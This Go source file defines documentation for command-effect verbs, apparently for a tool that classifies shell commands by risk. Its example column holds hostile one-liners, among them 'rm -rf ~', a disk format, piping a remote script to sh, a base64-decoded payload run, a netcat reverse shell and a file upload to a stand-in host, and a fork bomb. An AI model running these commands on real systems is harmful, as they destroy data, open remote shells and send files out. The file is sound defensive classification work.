package effect

// VerbDoc says what a verb means and what its object is, with a command that does
// it.
type VerbDoc struct {
	Verb            Verb
	Object, Means   string
	Example, Effect string
}

// VerbDocs document all verbs, in the order of Verbs.
func VerbDocs() []VerbDoc {
	return []VerbDoc{
		{Read, "a path", "the contents are shown, copied or sent", "cat .env", "read .env"},
		{Write, "a path", "made, replaced, appended to or changed; from is where the contents come from, content what is written", "echo x > a.txt", "write a.txt"},
		{Delete, "a path", "removed, also by moving it away or by emptying it", "rm -rf ~", "delete ~, and everything in it"},
		{Mode, "a path", "its permissions or its owner are changed; content is the new mode", "chmod 777 a", "mode a"},
		{Format, "a path", "a disk or file system is made new or overwritten", "mkfs.ext4 /dev/sda1", "format /dev/sda1"},
		{Link, "a path", "another name for it is made; from is the new name", "ln -s /etc/x y", "link /etc/x as y"},
		{Run, "a path", "a program in a file that nobody has shown", "./deploy.sh", "run deploy.sh"},
		{RunRemote, "an address", "a program from the network is run", "curl https://x.example/i.sh | sh", "run-remote https://x.example/i.sh"},
		{RunHidden, "what hides it", "a program that was decoded or made by another program is run", "echo cm0= | base64 -d | sh", "run-hidden"},
		{ReverseShell, "an address", "another machine gets a shell", "nc -e /bin/sh x.example 4444", "reverse-shell x.example:4444"},
		{Exhaust, "what does it", "the machine is used up", ":(){ :|:& };:", "exhaust"},
		{Kill, "a process", "processes are ended, by name, number or pattern", "pkill node", "kill node"},
		{Stop, "a service", "a service is stopped or disabled", "systemctl stop nginx", "stop nginx"},
		{Shutdown, "the machine", "it is shut down or started again", "reboot", "shutdown"},
		{Fetch, "an address", "something is got", "curl https://x.example/a", "fetch https://x.example/a"},
		{Send, "an address or host", "something is given away; from is the file it is in, environment, secret or database", "curl -T a.txt https://x.example/", "send https://x.example/ from a.txt"},
		{Connect, "a host", "a connection is opened, and the text does not tell what it carries", "ssh x.example", "connect x.example"},
		{Listen, "an address", "others can connect", "nc -l 8080", "listen 8080"},
		{ForcePush, "a branch", "it is overwritten on a remote; * for all of them; from is the remote", "git push -f origin main", "force-push main to origin"},
		{DeleteBranch, "a branch or tag", "it is deleted on a remote", "git push origin :old", "delete-branch old on origin"},
		{Push, "a branch", "commits are sent; from is the remote. The branch that is checked out is not known", "git push origin main", "push main to origin"},
		{Discard, "what is given up", "changes that were not committed, or commits that nothing else keeps; wide: also what git never saw", "git clean -fdx", "discard untracked files, and everything in it"},
		{RewriteHistory, "what is rewritten", "commits are changed that others may have", "git filter-repo --path a", "rewrite-history"},
		{SkipChecks, "hooks, signatures, …", "hooks or signatures are not asked", "git commit --no-verify", "skip-checks hooks"},
		{Drop, "table users, rows of users, …", "data in a database is deleted for good", "psql -c 'drop table users'", "drop table users"},
		{Destroy, "what is destroyed", "infrastructure, stored objects or repositories are deleted; wide: and what they store", "terraform destroy", "destroy infrastructure, and everything in it"},
		{Apply, "what is changed", "infrastructure is changed", "kubectl apply -f x.yaml", "apply x.yaml"},
		{Publish, "a package, image or site", "it is made public", "npm publish", "publish"},
		{Install, "a package", "it is installed; from is its address where it is not the usual registry", "npm install left-pad", "install left-pad"},
		{Grant, "what is granted", "somebody may do more: users, groups, sudo, setuid", "chmod u+s x", "grant setuid x"},
		{Disarm, "what is switched off", "what protects the machine or shows what happened is switched off or cleared", "history -c", "disarm history"},
		{Persist, "what runs later", "something runs later or again and again", "crontab x", "persist crontab"},
		{Reveal, "whose secrets", "secrets are printed", "env", "reveal environment"},
		{SetVariable, "a variable", "set in the environment of what runs later; from is its value", "export PATH=/x", "set-variable PATH to /x"},
		{UnsetVariable, "a variable", "taken out of the environment of what runs later", "unset HTTPS_PROXY", "unset-variable HTTPS_PROXY"},
	}
}
